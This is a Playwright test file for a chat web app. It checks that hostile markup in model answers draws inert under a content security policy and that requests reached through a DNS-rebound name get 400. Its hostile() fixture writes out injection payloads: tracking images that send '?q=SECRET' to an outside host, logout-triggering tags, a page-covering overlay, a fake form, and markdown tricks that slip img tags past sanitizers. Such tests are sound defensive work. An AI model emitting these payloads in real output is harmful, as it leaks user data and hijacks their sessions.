"""Items 2 and 3 of the hardening issue in a real Chromium (fixtures from tests/browser.py).

Item 2: an answer full of markup that would fetch remote resources, sign the viewer out, lay
a layer over the page or draw a form loads nothing and draws none of it; its images wait for
a click on "load image", which fetches the picture through Parley. Every request the page
makes is logged (`request` events), and the policy is what the browser reports: the header
on the page's response, and `securitypolicyviolation` events, of which Gradio's own page
raises none while it is used (sign-in, chat, sidebar, settings, share page, sign-out).
Item 3: a page reached through a name that now points at 127.0.0.1 (DNS rebinding) gets 400.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from playwright.sync_api import BrowserContext, Page, Playwright, expect

from tests.browser import (  # noqa: F401
    ARTIFACTS,
    CHROMIUM,
    LAUNCH_ARGS,
    TIMEOUT_MS,
    bot,
    browser_fixture,
    page_fixture,
    playwright_fixture,
    send,
    wait_until,
)
from tests.conftest import RunningApp, start_app
from tests.fake_openai import FakeOpenAI, Reply
from tests.image_server import ImageServer, image_server
from tests.test_browser_hostile import expand_all
from tests.test_image_fetch import loopback_too, resolve
from webapp import cli
from webapp.edge.image_fetch import ImageFetcher

PASSWORD = "correct horse battery"
REQUIRED = [
    "default-src 'self'",
    "img-src 'self' data: blob:",
    "media-src 'self' blob:",
    "frame-ancestors 'none'",
    "form-action 'self'",
    "object-src 'none'",
    "base-uri 'self'",
]
DOT = "data:image/png;base64," + (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
# What the message bodies may hold after rendering: none of these (Gradio's own copy button on
# code blocks aside).
ACTIVE = (
    "form, input, textarea, select, button:not(.copy_code_button), video, audio, source, "
    "picture, iframe, object, embed, [style*='fixed'], [srcset], [style*='url(']"
)


def hostile(base: str) -> str:
    """Markup that loads `base` (the image server) or /logout, or covers or fakes the page."""
    secret = f"{base}/pixel.png?q=SECRET"
    return "\n\n".join(
        [
            "HOSTILE-START",
            f"![chart]({base}/chart.png?q=SECRET)",
            f"![by reference][ref]\n\n[ref]: {base}/ref.png?q=SECRET",
            f'<img src="{secret}"> <img srcset="{secret} 1x"> <img src="/logout">',
            f'<picture><source srcset="{secret}"><img src="/logout"></picture>',
            f'<div style="background:url({secret});position:fixed;inset:0;z-index:99999">'
            "cover</div>",
            f'<video src="{secret}" poster="{secret}" autoplay></video>'
            f'<audio autoplay><source src="{secret}"></audio>',
            '<form action="/logout" method="post"><input name="q" autofocus>'
            "<button>Continue</button></form>",
            # Where marked reads Markdown differently from CommonMark (tests/test_safe_markup.py):
            f'```\ncode\n```~\n<img src="{secret}">\n```',
            f'Cost $5\n```js\nx = "$"\n<img src="{secret}">\n```',
            f'```mermaid\ngraph TD; A["<img src={secret}>"]\n```',
            f'[x](/u "`") <img src="{secret}"> `',
            f"~~a`~~ <img src={secret}> `",
            f"| a | b |\n|---|---|\n| `x | <img src={secret}> | y` | c |",
            f"Fine: **bold**, `Vec<T>`, $a<b$, ![inline dot]({DOT})\n\n```html\n<b>code</b>\n```",
            "HOSTILE-END",
        ]
    )


@pytest.fixture
def images() -> Iterator[ImageServer]:
    with image_server() as server:
        yield server


@pytest.fixture
def team_app(
    fake_openai: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[RunningApp]:
    """AUTH_MODE=accounts with alice; "load image" may reach images.test (the image server)."""
    db = tmp_path / "team.db"
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{db}")
    assert (
        cli.main(["add", "alice", "--password-stdin"], io.StringIO(), io.StringIO(PASSWORD + "\n"))
        == 0
    )
    fetcher = ImageFetcher(resolve=resolve, address_allowed=loopback_too)
    running = start_app(fake_openai, db, image_fetcher=fetcher, AUTH_MODE="accounts")
    try:
        yield running
    finally:
        running.close()


class Watch:
    """Every request a browser context makes, and every CSP violation its pages report."""

    def __init__(self, context: BrowserContext) -> None:
        self.requests: list[str] = []
        self.failed: list[tuple[str, str | None]] = []
        self.violations: list[dict[str, Any]] = []
        context.on("request", lambda request: self.requests.append(request.url))
        context.on(
            "requestfailed", lambda request: self.failed.append((request.url, request.failure))
        )
        context.expose_binding(
            "__parleyViolation", lambda _source, report: self.violations.append(report)
        )
        context.add_init_script("""document.addEventListener('securitypolicyviolation', e =>
            window.__parleyViolation({directive: e.effectiveDirective, blocked: e.blockedURI,
                                      source: e.sourceFile, sample: e.sample}));""")

    def foreign(self, origin: str) -> list[str]:
        return [url for url in self.requests if not url.startswith((origin, "data:", "blob:"))]

    def to(self, path: str) -> list[str]:
        return [url for url in self.requests if re.match(rf"https?://[^/]+{path}", url)]


def sign_in(page: Page, url: str) -> None:
    response = page.goto(url)
    assert response is not None
    check_policy(response.headers)
    page.get_by_label("username").fill("alice")
    page.get_by_label("password").fill(PASSWORD)
    page.get_by_role("button", name="Login").click()


def check_policy(headers: dict[str, str]) -> None:
    directives = headers["content-security-policy"].split("; ")
    for directive in REQUIRED:
        assert directive in directives, (directive, directives)
    script_src = next(d for d in directives if d.startswith("script-src "))
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert headers["x-content-type-options"] == "nosniff"


def assert_drawn_inert(chat: Any) -> None:
    bodies = chat.locator(".message-content")
    found = bodies.locator(ACTIVE)
    assert found.count() == 0, found.evaluate_all("els => els.map(e => e.outerHTML.slice(0, 90))")
    sources = bodies.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))")
    assert all(src.startswith(("data:", "blob:")) for src in sources), sources


def test_model_output_loads_nothing_until_a_click_and_the_page_keeps_its_policy(
    team_app: RunningApp, images: ImageServer, browser: Any
) -> None:
    origin = team_app.url.rstrip("/")
    base = images.url("", host="images.test")
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    watch = Watch(context)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    try:
        sign_in(page, team_app.url)
        expect(page.locator("#models-note")).to_contain_text("models from")
        team_app.fake.enqueue(Reply(content="ANSWER " + hostile(base), reasoning=hostile(base)))
        send(page, 'Show me <img src="/logout"> everything')
        chat = page.locator("#chatbot")
        expect(bot(page, "ANSWER HOSTILE-START")).to_contain_text("HOSTILE-END")
        expect(chat).to_contain_text("completion")  # the final render
        expand_all(page, chat)
        expect(chat.get_by_text("HOSTILE-END")).to_have_count(2)
        wait_until(page, "() => Array.from(document.images).every(i => i.complete)")
        assert_drawn_inert(chat)
        expect(chat.locator(".message-content img[src^='data:image/png']")).to_have_count(2)

        # Nothing was fetched: no other host, no /logout, no image through Parley.
        assert watch.foreign(origin) == [] and images.requests == []
        assert watch.to("/logout") == [] and watch.to("/parley/image") == []
        assert page.request.get(team_app.url + "config").status == 200, "still signed in"
        assert watch.violations == [], watch.violations

        # The policy is enforced: an image the page itself tries to add is blocked, reported.
        page.evaluate(
            "src => { const i = new Image(); i.src = src; document.body.append(i); }",
            f"{base}/probe.png",
        )
        wait_until(page, "() => Array.from(document.images).every(i => i.complete)")
        assert [(v["directive"], v["blocked"]) for v in watch.violations] == [
            ("img-src", f"{base}/probe.png")
        ]
        assert (f"{base}/probe.png", "csp") in watch.failed  # blocked by the browser
        assert images.requests == []
        watch.violations.clear()
        watch.requests.remove(f"{base}/probe.png")

        # A click on "load image" fetches that one picture, through Parley, and shows it.
        links = chat.locator("a", has_text="load image: chart (images.test)")
        expect(links).to_have_count(2)  # the answer and the Thinking block
        links.first.click()
        picture = chat.locator("img.parley-loaded-image")
        expect(picture).to_have_count(1)
        wait_until(page, "img => img.complete && img.naturalWidth === 40", picture.element_handle())
        ARTIFACTS.mkdir(exist_ok=True)
        picture.scroll_into_view_if_needed()
        page.screenshot(path=str(ARTIFACTS / "load-image.png"))
        [fetched] = watch.to("/parley/image")
        assert unquote(fetched).endswith(f"url={base}/chart.png?q=SECRET")
        assert [r["path"] for r in images.requests] == ["/chart.png"]
        assert watch.foreign(origin) == []

        # Sidebar (reopen after a reload) and settings, then the share page.
        page.reload()
        expect(page.locator("#models-note")).to_contain_text("models from")
        page.locator("#conversations label", has_text="Show me").click()
        expect(bot(page, "ANSWER HOSTILE-START")).to_contain_text("HOSTILE-END")
        page.locator("#advanced").get_by_text("Advanced parameters").click()
        page.locator("#search input, #search textarea").first.fill("Show")
        page.get_by_role("tab", name="Compare").click()
        expect(page.locator("#compare-send")).to_be_visible()
        page.locator("#share-export").get_by_text("Share and export").click()
        page.locator("#share").click()
        note = page.locator("#share-note")
        expect(note).to_contain_text("/share/?token=")
        link = re.search(r"https?://\S+/share/\?token=[\w-]+", note.inner_text())
        assert link is not None
        shared = page.goto(link.group(0))  # signed in to the chat: no second sign-in
        assert shared is not None
        check_policy(shared.headers)
        share_chat = page.locator("#share-chat")
        expect(share_chat).to_contain_text("HOSTILE-END")
        expand_all(page, share_chat)
        wait_until(page, "() => Array.from(document.images).every(i => i.complete)")
        assert_drawn_inert(share_chat)
        expect(share_chat.locator("a", has_text="load image: chart")).to_have_count(2)
        assert len(watch.to("/parley/image")) == 1 and len(images.requests) == 1

        # Sign out is a POST from the page.
        page.goto(team_app.url)
        page.locator("#sign-out").click()
        expect(page.get_by_label("username")).to_be_visible()
        assert page.request.get(team_app.url + "config").status == 401
        assert watch.to("/logout") == [f"{origin}/logout"]
        assert watch.violations == [], json.dumps(watch.violations)
        assert watch.foreign(origin) == []
    finally:
        context.close()


@pytest.fixture(scope="module")
def rebinding_browser(playwright: Playwright) -> Iterator[Any]:
    """Chromium resolving rebind.example to 127.0.0.1: what DNS rebinding achieves."""
    browser = playwright.chromium.launch(
        executable_path=CHROMIUM,
        headless=True,
        args=[*LAUNCH_ARGS, "--host-resolver-rules=MAP rebind.example 127.0.0.1"],
    )
    yield browser
    browser.close()


def test_a_page_reached_through_a_rebound_name_gets_400(
    sqlite_app: RunningApp, rebinding_browser: Any
) -> None:
    port = sqlite_app.settings.port
    context = rebinding_browser.new_context()
    watch = Watch(context)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    try:
        response = page.goto(f"http://rebind.example:{port}/")
        assert response is not None and response.status == 400
        expect(page.locator("body")).to_have_text("Invalid host header")
        # The rebound page's own script tries the API: same origin to it, refused by Host.
        status = page.evaluate("""async () => (await fetch('/gradio_api/queue/join', {
            method: 'POST', headers: {'Content-Type': 'application/json'},
            body: JSON.stringify({data: ['hi', '', '', '{}'], fn_index: 0,
                                  session_hash: 'rebound'})})).status""")
        assert status == 400
        assert watch.requests == [
            f"http://rebind.example:{port}/",
            f"http://rebind.example:{port}/gradio_api/queue/join",
        ]
        assert [
            r for r in sqlite_app.fake.requests if r["path"].endswith("/chat/completions")
        ] == []

        served = page.goto(f"http://localhost:{port}/")  # the real name still works
        assert served is not None and served.status == 200
        expect(page.locator("#models-note")).to_contain_text("models from")
        assert watch.violations == []
    finally:
        context.close()


def test_editing_a_message_with_a_tag_in_it_keeps_the_tag(
    sqlite_app: RunningApp, page: Page
) -> None:
    """The message shows `<div>` as text; its edit box holds the escaped text it was shown
    as, and what reaches the model after the edit is what the user typed."""
    page.goto(sqlite_app.url)
    expect(page.locator("#models-note")).to_contain_text("models from")
    send(page, "What does <div> do?")
    user = page.locator('#chatbot [data-testid="user"]')
    expect(user).to_have_text("What does <div> do?")
    expect(page.locator("#chatbot")).to_contain_text("Echo: What does <div> do?")
    expect(page.locator("#chatbot")).to_contain_text("completion")
    page.locator('#chatbot button[aria-label="Edit"]').click()
    editor = page.locator("#chatbot textarea.edit-textarea")
    expect(editor).to_have_value("What does &lt;div> do?")
    editor.fill(editor.input_value() + " Briefly.")
    page.locator('#chatbot button[aria-label="Submit"]').click()
    expect(page.locator("#chatbot")).to_contain_text("Echo: What does <div> do? Briefly.")
    asked = [
        r["json"]["messages"][-1]["content"]
        for r in sqlite_app.fake.requests
        if r["path"].endswith("/chat/completions")
    ]
    assert asked == ["What does <div> do?", "What does <div> do? Briefly."]
